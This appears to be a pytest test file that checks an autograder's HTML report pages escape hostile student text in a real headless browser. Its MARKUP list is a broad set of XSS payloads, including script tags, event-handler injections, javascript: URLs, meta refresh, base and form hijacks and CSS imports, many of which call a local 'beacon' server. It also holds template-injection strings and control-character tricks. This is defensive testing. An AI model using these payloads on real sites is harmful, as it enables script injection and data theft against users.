"""What students wrote is only text, in a real browser, on every page that is written about them."""

from __future__ import annotations

import base64
import functools
import http.server
import os
import re
import shutil
import struct
import subprocess
import sys
import threading
import unicodedata
import zlib
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any

import pytest
from samples import check, question, report
from tiny_course import make_course

from autograder.insight.alarms import ClassAlarm
from autograder.insight.items import analysed
from autograder.insight.similarity.pairs import Block, Pair, Side, TextFile
from autograder.pictures.raster import clean, text_of
from autograder.reports.pages import Heading, staff_page, student_page, summary_page
from autograder.reports.pages.staff import Likeness, SimilarClass, pair_page, similar_page
from autograder.reports.pages.text import visible
from autograder.results import Report, Verdict
from autograder.sandbox import why_not

playwright = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")

BROWSER = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
DEED = "window.pwned=1;document.title='pwned';alert(1);fetch('BEACON/ran')"
MARKUP = (
    f"<script>{DEED}</script>",
    "<script src=BEACON/script></script>",
    f'"><script>{DEED}</script>',
    f"'><script>{DEED}</script>",
    f"</title><script>{DEED}</script>",
    f"</style><script>{DEED}</script>",
    f"</pre></details></main><script>{DEED}</script>",
    f"--><script>{DEED}</script>",
    f"]]><script>{DEED}</script>",
    f"<scr<script>ipt>{DEED}</script>",
    f'<img src=x onerror="{DEED}">',
    "<img src=BEACON/image>",
    f'<svg onload="{DEED}">',
    f'<svg><animate onbegin="{DEED}" attributeName=x dur=1s>',
    f'<details open ontoggle="{DEED}">',
    f'<input autofocus onfocus="{DEED}">',
    f'<body onload="{DEED}">',
    f'" autofocus tabindex=1 onfocus="{DEED}" x="',
    f"' autofocus tabindex=1 onfocus=\"{DEED}\" x='",
    f'<a href="javascript:{DEED}">click</a>',
    f"javascript:{DEED}",
    f'<iframe srcdoc="<script>parent.{DEED}</script>"></iframe>',
    "<iframe src=BEACON/frame></iframe>",
    "<object data=BEACON/object></object><embed src=BEACON/embed>",
    '<meta http-equiv="refresh" content="0;url=BEACON/refresh">',
    "<base href=BEACON/base/>",
    '<form action=BEACON/form><button autofocus type="submit">go</button></form>',
    "<link rel=stylesheet href=BEACON/sheet><link rel=prefetch href=BEACON/prefetch>",
    "<style>@import url(BEACON/import); .card { border-radius: 0 }</style>",
    "@import url(BEACON/import); } .card { border-radius: 0 } {",
    '<p style="position:fixed;inset:0;background:url(BEACON/background)">',
    "<video src=BEACON/video autoplay></video>",
    "{{ 7 * 7 }} {% raw %} ${7*7} #{7*7} <%= 7*7 %>",
    "&lt;script&gt; &#60;script&#62; %3Cscript%3E +ADw-script+AD4-",
)
UNSEEN = (
    "\x1b[31mred\x1b[0m \x1b]8;;BEACON/link\x07link\x1b]8;;\x07 \x1b]0;title",
    "nul\0 <scr\0ipt> bell\x07 back\x08 c1\x9b31m form\x0c",
    "10 %\r20 %\r<b>30 %</b>",
    "\u202egpj.exe \u2066isolated\u2069 \u200fmark \u061c",
    "line\u2028separator\u2029",
    "half \ud800 pair \udfff",
    "x" * 1900,
)
FORBIDDEN = (
    "script, iframe, object, embed, form, base, img:not([src^='data:image/png;base64,']), link, input, video, animate, "
    "a[href^='javascript']"
)
PICTURE = re.compile(r"data:image/png;base64,([A-Za-z0-9+/]+={0,2})", re.ASCII)
CORNER = "getComputedStyle(document.querySelector('.card')).borderTopLeftRadius"  # 12px in our style sheet
LOADED = ("ran", "script", "image", "frame", "object", "embed", "sheet", "import", "background", "video")
DIRECTIONS = {"LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI"}
MARKS = {"\u200e", "\u200f", "\u061c"}


def _chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


PIXEL = text_of(
    clean(
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 6, 0, 0, 0))
        + _chunk(b"tEXt", b"Comment\0<script>alert(1)</script>")
        + _chunk(b"IDAT", zlib.compress(b"\0\xff\0\0\xff"))
        + _chunk(b"IEND", b"")
    )
)


class Quiet(http.server.SimpleHTTPRequestHandler):
    """Serves a folder and keeps a list of what was asked for."""

    def do_GET(self) -> None:
        """Serve a file."""
        self.server.asked.append(self.path)
        super().do_GET()

    def log_message(self, *words: object) -> None:
        """Say nothing."""


@contextmanager
def serving(folder: Path) -> Iterator[http.server.ThreadingHTTPServer]:
    """A server of a folder, with `url` and the paths that were `asked` for."""
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(Quiet, directory=folder)) as server:
        server.asked = []
        server.url = f"http://127.0.0.1:{server.server_port}"
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02})
        thread.start()
        yield server
        server.shutdown()
        thread.join()


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    """A browser without a window."""
    if BROWSER is None:
        pytest.skip("no chromium or chrome is installed")
    with playwright.sync_playwright() as driver:
        arguments = ["--no-sandbox"] if os.geteuid() == 0 else []
        running = driver.chromium.launch(executable_path=BROWSER, args=arguments)
        yield running.new_context()
        running.close()


@pytest.fixture(scope="module")
def beacon(tmp_path_factory: pytest.TempPathFactory) -> Iterator[http.server.ThreadingHTTPServer]:
    """The attacker's server: whatever reaches it got out of a page."""
    with serving(tmp_path_factory.mktemp("beacon")) as server:
        yield server


@pytest.fixture(scope="module", params=["file", "http"])
def pages(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory, beacon: Any) -> Iterator[Any]:
    """Where the pages lie, as a folder and as an address: opened from the disk, or from a server."""
    folder = tmp_path_factory.mktemp("pages")
    if request.param == "file":
        yield folder, folder.as_uri()
    else:
        with serving(folder) as server:
            yield folder, server.url


@dataclass
class Seen:
    """A page that somebody looks at, and what it did meanwhile."""

    page: Any
    reached: list[str]
    requests: list[str] = field(default_factory=list)
    dialogs: list[str] = field(default_factory=list)
    complaints: list[str] = field(default_factory=list)

    def dismiss(self, dialog: Any) -> None:
        """Note a dialog and close it."""
        self.dialogs.append(dialog.message)
        dialog.dismiss()


@contextmanager
def looked_at(browser: Any, address: str, beacon: Any) -> Iterator[Seen]:
    """Open a page, wait for what it does by itself, unfold what can be unfolded, and go through it with the Tab key."""
    del beacon.asked[:]
    with browser.new_page() as page:
        seen = Seen(page, beacon.asked)
        page.on("dialog", seen.dismiss)
        page.on("request", lambda request: seen.requests.append(request.url))
        page.on("console", lambda message: seen.complaints.append(message.text))
        page.on("pageerror", lambda error: seen.complaints.append(str(error)))
        page.goto(address)
        page.wait_for_timeout(100)
        page.evaluate("document.querySelectorAll('details').forEach(each => each.open = true)")
        for _ in range(3):
            page.keyboard.press("Tab")
        page.wait_for_timeout(50)
        yield seen


def harmless(seen: Seen, address: str) -> str:
    """The text of a page that did nothing, holds nothing that could do something, and is in our style."""
    page = seen.page
    addresses = page.evaluate("[...document.images].map(each => each.getAttribute('src'))")
    assert all(map(PICTURE.fullmatch, addresses))
    files = [base64.b64decode(each.partition(",")[2]) for each in addresses]
    assert [clean(file) for file in files] == files
    assert page.evaluate("[...document.images].every(each => each.complete && each.naturalWidth)")
    requests = [each for each in seen.requests if each not in addresses]
    assert (requests, seen.reached, seen.dialogs, seen.complaints) == ([address], [], [], [])
    assert (page.url, len(page.frames), len(page.context.pages)) == (address, 1, 1)
    assert page.evaluate("window.pwned") is None
    assert page.title() != "pwned"
    assert page.locator(FORBIDDEN).count() == 0
    names = page.evaluate("[...document.querySelectorAll('*')].flatMap(each => each.getAttributeNames())")
    assert not [name for name in names if name.startswith("on") or name in ("style", "srcdoc", "action", "srcset")]
    assert names.count("src") == len(addresses)
    assert page.evaluate(CORNER) == "12px"
    text = page.text_content("body")
    assert not [sign for sign in set(text + page.title()) if unseen(sign)]
    return text


def unseen(sign: str) -> bool:
    """Whether a character controls how others are shown."""
    kind = unicodedata.category(sign) in ("Cc", "Cs", "Zl", "Zp") and sign not in "\n\t"
    return kind or unicodedata.bidirectional(sign) in DIRECTIONS or sign in MARKS


def hostile(texts: tuple[str, ...], beacon: Any) -> tuple[str, ...]:
    """These texts with the beacon's address in place."""
    return tuple(text.replace("BEACON", beacon.url) for text in texts)


def enemy(texts: tuple[str, ...], markup: str) -> Report:
    """A report that holds the texts wherever students have a say, and the markup where only the course has."""
    every = "\n".join(texts)
    public = tuple(check(f"c{n}", Verdict.FAILED, failure=text) for n, text in enumerate(texts))
    hidden = tuple(check(f"h{verdict}", verdict, hidden=True, failure=every) for verdict in Verdict)
    drawn = (PIXEL, *texts)  # only the picture is one
    checks = tuple(
        replace(each, title=markup, **{"staff_pictures" if each.hidden else "pictures": drawn})
        for each in (*public, *hidden)
    )
    part = replace(question("a", *checks, output=every), title=markup, staff_output=f"{every}\nfor staff")
    made = report(every, part)
    return replace(
        made,
        notes=(every, *texts),
        resources=replace(made.resources, sandbox=markup, enforced=(markup,)),
        replay=replace(made.replay, data=markup, versions={markup: markup}),
    )


@pytest.mark.parametrize("kind", ["student", "staff"])
def test_a_report_s_words_do_nothing(kind: str, browser: Any, beacon: Any, pages: tuple[Path, str]) -> None:
    """Names, notes, messages, traces and prints full of markup stand there as they were written, and nothing else."""
    folder, address = pages
    markup = "\n".join(hostile(MARKUP, beacon))
    texts = hostile(MARKUP + UNSEEN, beacon)
    write = student_page if kind == "student" else staff_page
    (folder / f"{kind}.html").write_text(write(enemy(texts, markup), Heading(markup, markup)), "utf-8")

    with looked_at(browser, f"{address}/{kind}.html", beacon) as seen:
        text = harmless(seen, f"{address}/{kind}.html")
        assert seen.page.locator("img").count() == len(texts) + (len(Verdict) if kind == "staff" else 0)
        assert [each for each in texts if visible(each) not in text] == []
        assert text.count(markup) >= len(texts)
        assert MARKUP[0].replace("BEACON", beacon.url) in seen.page.inner_text("main")
        assert seen.page.title().startswith("<script>")


def test_a_summary_s_words_do_nothing(browser: Any, beacon: Any, pages: tuple[Path, str]) -> None:
    """A class of students whose names and mishaps are markup is a table of such names, and links to their pages."""
    folder, address = pages
    markup = "\n".join(hostile(MARKUP, beacon))
    texts = hostile(MARKUP + UNSEEN, beacon)
    broken = [
        report(text, question("a", replace(check("x", Verdict.INTERNAL, failure=text), title=markup))) for text in texts
    ]
    names = {each.student: f"{n:02} {{}} #?%&\"'" for n, each in enumerate(broken)}
    page = summary_page(broken, Heading(markup, markup), names, dataset=markup, sandbox=markup)
    (folder / "summary.html").write_text(page, "utf-8")

    with looked_at(browser, f"{address}/summary.html", beacon) as seen:
        text = harmless(seen, f"{address}/summary.html")
        assert [each for each in texts if text.count(visible(each, 2000)) < 2] == []
        links = seen.page.evaluate("[...document.links].map(each => each.href)")
        assert len(links) == 2 * len(texts) + 1
        assert {link.removeprefix(address).split("/")[1] for link in links} == {"staff", "feedback", "grades.csv"}


def test_what_is_said_of_checks_does_nothing(browser: Any, beacon: Any, pages: tuple[Path, str]) -> None:
    """Item analysis shows messages and titles of markup as they are, and alarms about students as well."""
    folder, address = pages
    markup = "\n".join(hostile(MARKUP, beacon))
    texts = [" ".join(text.split("\n")) for text in hostile(MARKUP + UNSEEN, beacon)]
    rows = [
        report(f"s{number:02}", question("a", *(replace(check(f"c{n}", verdict, failure=text), title=markup)
                                                for n, text in enumerate(texts))))
        for number, verdict in enumerate([Verdict.FAILED] * 8 + [Verdict.PASSED] * 4)
    ]  # fmt: skip
    names = {each.student: each.student for each in rows}
    alarms = tuple(ClassAlarm("same answers", "a", "c0", 2, 12, text) for text in texts)
    page = summary_page(rows, Heading("C", "H"), names, dataset="", sandbox="", alarms=alarms, analysis=analysed(rows))
    (folder / "items.html").write_text(page, "utf-8")

    with looked_at(browser, f"{address}/items.html", beacon) as seen:
        text = harmless(seen, f"{address}/items.html")
        assert [each for each in texts if visible(each, 2000)[:100] not in text] == []
        assert seen.page.locator("svg[role=img]").count() >= 2


def test_two_submissions_side_by_side_do_nothing(browser: Any, beacon: Any, pages: tuple[Path, str]) -> None:
    """Names of students and files, and lines of code full of markup, stand there as they were written."""
    folder, address = pages
    markup = "\n".join(hostile(MARKUP, beacon))
    texts = hostile(MARKUP + UNSEEN, beacon)
    blocks = tuple(Block(n % 3, n + 1, tuple(text.split("\n")), left_out=n % 2) for n, text in enumerate(texts))
    sides = [Side(markup, (TextFile(markup, blocks),), (markup,)) for _ in range(2)]
    likeness = Likeness(markup, markup, Pair(0, 1, 0.9, 30.0, 50, 5), 1, "similar/001 #?%&\"'.html")
    found = SimilarClass((likeness,), ((markup, markup),), 2, 0, 1, 0.1, 0.65, True, ((markup, markup),))
    heading = Heading(markup, markup)
    (folder / "pair.html").write_text(pair_page(likeness, sides, 2, found, heading), "utf-8")
    (folder / "similar.html").write_text(similar_page(found, heading), "utf-8")

    for name in ("pair", "similar"):
        with looked_at(browser, f"{address}/{name}.html", beacon) as seen:
            text = harmless(seen, f"{address}/{name}.html")
            assert visible(markup, 200).split("\n")[0] in text
            lines = [visible(each.split("\n")[0], 300)[:200] for each in texts]
            assert name == "similar" or [line for line in lines if line not in text] == []
            ids = seen.page.evaluate("[...document.querySelectorAll('[id]')].map(each => each.id)")
            assert len(ids) == len(set(ids))


def broken_page(raw: str, *, policy: bool) -> str:
    """A student's page with a text that somebody forgot to escape, with its content policy or without."""
    page = student_page(report("ann", question("a", check("one", Verdict.PASSED))), Heading("Course", "Homework"))
    policies = re.compile('<meta http-equiv="Content-Security-Policy".*?>')
    assert (len(policies.findall(page)), page.count("</main>")) == (1, 1)
    return (page if policy else policies.sub("", page)).replace("</main>", f"{raw}</main>")


def test_markup_that_is_not_escaped_would_be_seen(browser: Any, beacon: Any, pages: tuple[Path, str]) -> None:
    """The same texts do all they can in a page without escapes and policy: the tests above can fail."""
    folder, address = pages
    raw = "".join(f"<div>{text}</div>" for text in hostile(MARKUP, beacon) if "refresh" not in text)
    (folder / "broken.html").write_text(broken_page(raw, policy=False), "utf-8")

    def all_done(seen: Seen) -> bool:
        return len(seen.dialogs) >= 10 and {f"/{name}" for name in LOADED} <= set(seen.reached)

    with looked_at(browser, f"{address}/broken.html", beacon) as seen:
        for _ in range(200):  # 10 seconds for a busy machine
            if all_done(seen):
                break
            seen.page.wait_for_timeout(50)
        assert seen.page.evaluate("window.pwned") == 1
        assert seen.page.title() == "pwned"
        assert all_done(seen), (len(seen.dialogs), seen.reached)
        with pytest.raises(AssertionError):
            harmless(seen, f"{address}/broken.html")


def test_a_page_that_leads_elsewhere_would_be_seen(browser: Any, beacon: Any, pages: tuple[Path, str]) -> None:
    """A refresh that is not escaped is followed, and noticed."""
    folder, address = pages
    (raw,) = (text for text in hostile(MARKUP, beacon) if "refresh" in text)
    (folder / "away.html").write_text(broken_page(raw, policy=False), "utf-8")

    del beacon.asked[:]
    with browser.new_page() as page:
        page.goto(f"{address}/away.html", wait_until="commit")
        page.wait_for_url("**/refresh")
        assert "/refresh" in beacon.asked


def test_the_policy_holds_where_an_escape_is_forgotten(browser: Any, beacon: Any, pages: tuple[Path, str]) -> None:
    """With the page's own policy, markup that is not escaped runs nothing and reaches nobody.

    No policy can forbid a refresh, so that one is left out.
    """
    folder, address = pages
    raw = "".join(f"<div>{text}</div>" for text in hostile(MARKUP, beacon) if "refresh" not in text)
    (folder / "kept.html").write_text(broken_page(raw, policy=True), "utf-8")

    with looked_at(browser, f"{address}/kept.html", beacon) as seen:
        assert (seen.reached, seen.dialogs) == ([], [])
        assert seen.page.evaluate("window.pwned") is None
        assert seen.page.evaluate(CORNER) == "12px"
        assert any("Content Security Policy" in each for each in seen.complaints)


NAMES = (
    '<svg onload=window.pwned=1>"><img src=x onerror=window.pwned=1>',
    "javascript:' autofocus tabindex=1 onfocus=window.pwned=1 x='{{7*7}} %2e%2e%2f #fragment?query&amp;",
    "\u202egpj.exe \x1b[31mred \n line \udcff<b>",
)
SUBMISSION = """
TEXTS = {texts!r}

def double(x):
    print(*TEXTS, sep="\\n")
    if isinstance(x, str):
        return TEXTS[0]
    raise type({name!r}, (Exception,), {{"__module__": {name!r}}})("\\n".join(TEXTS))
"""


@pytest.mark.long
def test_a_class_of_enemies_can_be_looked_at(browser: Any, beacon: Any, tmp_path: Path) -> None:
    """After a real grading of folders and code full of markup, every page that the summary links to does nothing."""
    reason = why_not("bubblewrap")
    if reason:
        pytest.skip(f"the sandbox bubblewrap does not work here: {reason}")
    texts = hostile(MARKUP + UNSEEN, beacon)
    source = SUBMISSION.format(texts=texts, name="<svg onload=window.pwned=1>")
    for name in NAMES:
        (tmp_path / "in" / name).mkdir(parents=True)
        (tmp_path / "in" / name / "tiny.py").write_text(source, "utf-8")
    command = [sys.executable, "-m", "autograder", "grade", "tiny", tmp_path / "in", "--out", tmp_path / "out"]
    done = subprocess.run(
        [*command, "--sandbox", "bubblewrap", "--seed", "s"],
        cwd=make_course(tmp_path / "course"),
        capture_output=True,
        check=False,
        timeout=300,
    )
    assert done.returncode == 0, done.stderr
    summary = (tmp_path / "out" / "summary.html").as_uri()
    with looked_at(browser, summary, beacon) as seen:
        harmless(seen, summary)
        links = [link for link in seen.page.evaluate("[...document.links].map(each => each.href)") if ".html" in link]
    assert len(links) == 2 * len(NAMES)
    for link in links:
        with looked_at(browser, link, beacon) as seen:
            text = harmless(seen, link)
            assert visible(texts[0]) in text
